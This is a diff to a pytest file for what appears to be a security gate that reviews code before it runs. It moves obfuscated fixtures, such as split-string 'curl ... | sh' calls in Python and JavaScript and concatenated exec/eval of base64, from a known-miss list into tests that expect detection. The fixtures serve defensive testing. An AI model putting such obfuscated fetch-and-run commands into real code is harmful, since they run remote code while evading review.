@@ -252,30 +252,10 @@ def test_provider_test_key_only_warns(gate: Gate) -> None:
 
 
 MISSED = {
-    "a name put together of parts": (
-        {"app.py": "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('MQ=='))\n"},
-        "python3 app.py",
-        "the rules do not compute names",
-    ),
-    "split strings": (
-        {"app.py": "import os\nos.system('cur' + 'l https://example.com/x' + ' | s' + 'h')\n"},
-        "python3 app.py",
-        "the rules do not compute strings",
-    ),
-    "concatenation in JavaScript": (
-        {"server.js": "globalThis['ev' + 'al'](Buffer['fr' + 'om']('MQ==', 'base64').toString())\n"},
-        "node server.js",
-        "JavaScript is read by patterns alone",
-    ),
     "a dependency whose name is nearly another's": (
         {"app.py": "import reqeusts\n", "requirements.txt": "reqeusts\n"},
         "python3 app.py",
         "dependencies are not judged, since what judges them fails open where it is not reached",
-    ),
-    "a document that is executed": (
-        {"app.py": "exec(open('README.md').read())\n", "README.md": "import os\nos.system('id')\n"},
-        "python3 app.py",
-        "what is no code by its name is not read as code",
     ),
 }
 
@@ -287,3 +267,19 @@ MISSED = {
 def test_known_miss_does_not_pass(gate: Gate, files: Files, entrypoint: str) -> None:
     """Strictly expected to fail: the sandbox is the boundary, not this gate."""
     assert not gate.review(files, entrypoint).verdict.passed
+
+
+@pytest.mark.parametrize(
+    ("files", "entrypoint"),
+    [
+        ({"app.py": "import os\nos.system('cur' + 'l https://example.com/x' + ' | s' + 'h')\n"}, "python3 app.py"),
+        (
+            {"app.js": "const cp = require('child_process');\ncp.exec('cur' + 'l https://example.com | s' + 'h');\n"},
+            "node app.js",
+        ),
+    ],
+    ids=["Python", "JavaScript"],
+)
+def test_command_that_is_put_together_is_read(gate: Gate, files: Files, entrypoint: str) -> None:
+    (held,) = gate.review(files, entrypoint).verdict.open
+    assert (held.rule, held.line) == ("RSK-curl-shell", 2)
